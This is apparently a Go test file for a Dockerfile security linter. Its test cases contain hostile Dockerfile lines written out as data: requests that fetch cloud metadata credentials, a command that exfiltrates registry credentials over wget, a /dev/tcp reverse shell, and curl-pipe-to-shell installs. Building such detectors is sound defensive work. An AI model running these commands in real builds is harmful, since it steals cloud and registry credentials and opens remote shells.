package dockerfile

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func rules(issues []Issue) []string {
	var out []string
	for _, i := range issues {
		out = append(out, i.Rule)
	}
	return out
}

func has(issues []Issue, rule string) bool {
	for _, i := range issues {
		if i.Rule == rule {
			return true
		}
	}
	return false
}

func TestRules(t *testing.T) {
	cases := []struct {
		name, src string
		want      []string
		not       []string
	}{
		{"metadata curl", "FROM python:3.11\nRUN curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/\nUSER 1000\n", []string{RuleMetadata}, []string{RuleRoot}},
		{"metadata gcp heredoc", "FROM debian\nRUN <<EOF\nwget --header 'Metadata-Flavor: Google' -qO- http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token\nEOF\nUSER app\n", []string{RuleMetadata}, nil},
		{"metadata decimal", "FROM alpine\nRUN wget -qO- http://2852039166/latest/\nUSER 1\n", []string{RuleMetadata}, nil},
		{"metadata ipv6", "FROM alpine\nCMD [\"curl\", \"http://[fd00:ec2::254]/latest/meta-data/\"]\nUSER 1\n", []string{RuleMetadata}, nil},
		{"pipe to shell", "FROM ubuntu\nRUN curl -fsSL https://get.example.sh | bash\nUSER 1\n", []string{RulePipeShell}, nil},
		{"pipe to sudo sh", "FROM ubuntu\nRUN wget -qO- https://x/install.sh | sudo -E sh -\nUSER 1\n", []string{RulePipeShell}, nil},
		{"substitution", "FROM ubuntu\nRUN sh -c \"$(curl -fsSL https://x/i.sh)\"\nUSER 1\n", []string{RulePipeShell}, nil},
		{"python pipe", "FROM ubuntu\nRUN curl https://x/get-pip.py | python3\nUSER 1\n", []string{RulePipeShell}, nil},
		{"download then grep is fine", "FROM ubuntu\nRUN curl -fsSL https://x/sums | grep abc && sha256sum -c\nUSER 1\n", nil, []string{RulePipeShell}},
		{"docker socket", "FROM docker:cli\nRUN --mount=type=bind,source=/var/run/docker.sock,target=/var/run/docker.sock docker ps\nUSER 1\n", []string{RuleSocket}, nil},
		{"registry creds", "FROM alpine\nRUN cat /root/.docker/config.json | base64 | wget --post-data=@- http://x\nUSER 1\n", []string{RuleCredentials}, nil},
		{"builder env", "FROM alpine\nRUN cat /proc/1/environ > /tmp/e\nUSER 1\n", []string{RuleCredentials}, nil},
		{"docker login", "FROM alpine\nRUN echo $PASS | docker login -u x --password-stdin registry.internal\nUSER 1\n", []string{RuleCredentials}, nil},
		{"reverse shell", "FROM alpine\nRUN bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\nUSER 1\n", []string{RuleReverse}, nil},
		{"add remote", "FROM alpine\nADD https://example.com/tool.tar.gz /opt/\nUSER 1\n", []string{RuleAddRemote}, nil},
		{"add remote with checksum", "FROM alpine\nADD --checksum=sha256:abc https://example.com/tool.tar.gz /opt/\nUSER 1\n", nil, []string{RuleAddRemote}},
		{"env secret", "FROM alpine\nENV HF_TOKEN=abc123 MODEL=x\nUSER 1\n", []string{RuleSecretBaked}, nil},
		{"arg secret", "FROM alpine\nARG AWS_SECRET_ACCESS_KEY\nUSER 1\n", []string{RuleSecretBaked}, nil},
		{"copy env", "FROM alpine\nCOPY .env /app/.env\nUSER 1\n", []string{RuleSecretBaked}, nil},
		{"copy from stage is fine", "FROM alpine AS b\nFROM alpine\nCOPY --from=b /app/token /app/\nUSER 1\n", nil, []string{RuleSecretBaked}},
		{"secret mount is fine", "FROM python\nRUN --mount=type=secret,id=HF_TOKEN,mode=0444,required=true git clone https://x\nUSER 1000\n", nil, []string{RuleSecretBaked, RuleCredentials}},
		{"root", "FROM python\nUSER root\n", []string{RuleRoot}, nil},
		{"no user", "FROM python\nRUN pip install x\n", []string{RuleRoot}, nil},
		{"root in builder only", "FROM python AS b\nUSER root\nFROM python\nUSER 1000\n", nil, []string{RuleRoot}},
		{"parse error", "FROM python\nRUN <<EOF\nunterminated", nil, nil},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			issues := Check([]byte(c.src))
			for _, r := range c.want {
				if !has(issues, r) {
					t.Errorf("missing %s; got %v", r, rules(issues))
				}
			}
			for _, r := range c.not {
				if has(issues, r) {
					t.Errorf("unexpected %s; got %+v", r, issues)
				}
			}
		})
	}
}

func TestEvidenceIsRedacted(t *testing.T) {
	tok := "hf_" + strings.Repeat("Ab", 17)
	issues := Check([]byte("FROM alpine\nRUN curl -H 'Authorization: Bearer " + tok + "' http://169.254.169.254/\nUSER 1\n"))
	if len(issues) == 0 {
		t.Fatal("no issue")
	}
	for _, i := range issues {
		if strings.Contains(i.Evidence, tok[3:]) {
			t.Errorf("evidence leaks the token: %s", i.Evidence)
		}
	}
}

func TestSecretValuesNeverInEvidence(t *testing.T) {
	issues := Check([]byte("FROM alpine\nENV HF_TOKEN=s3cr3tvalue MODEL=bert\nARG API_KEY=an0thers3cret\nUSER 1\n"))
	if len(issues) != 2 {
		t.Fatalf("issues %+v", issues)
	}
	for _, i := range issues {
		if strings.Contains(i.Evidence, "s3cr3t") || strings.Contains(i.Evidence, "an0ther") || !strings.Contains(i.Evidence, "[REDACTED]") {
			t.Errorf("evidence %q", i.Evidence)
		}
	}
}

func TestTestdata(t *testing.T) {
	files, _ := filepath.Glob(filepath.Join("testdata", "*"))
	for _, f := range files {
		b, _ := os.ReadFile(f)
		Check(b)
	}
}

func FuzzCheck(f *testing.F) {
	f.Add([]byte("FROM python:3.11\nRUN curl -s http://169.254.169.254/ | sh\nENV A=b C=d\nUSER root\n"))
	f.Add([]byte("# syntax=docker/dockerfile:1\nFROM x\nRUN <<EOF\necho hi\nEOF\nCOPY --chmod=755 .env /\n"))
	f.Add([]byte("FROM x\nARG TOKEN=1\nADD https://a/b /c\nHEALTHCHECK CMD curl http://metadata.google.internal/\n"))
	f.Fuzz(func(t *testing.T, src []byte) {
		for _, i := range Check(src) {
			if i.Rule == "" {
				t.Fatal("issue without a rule")
			}
		}
	})
}
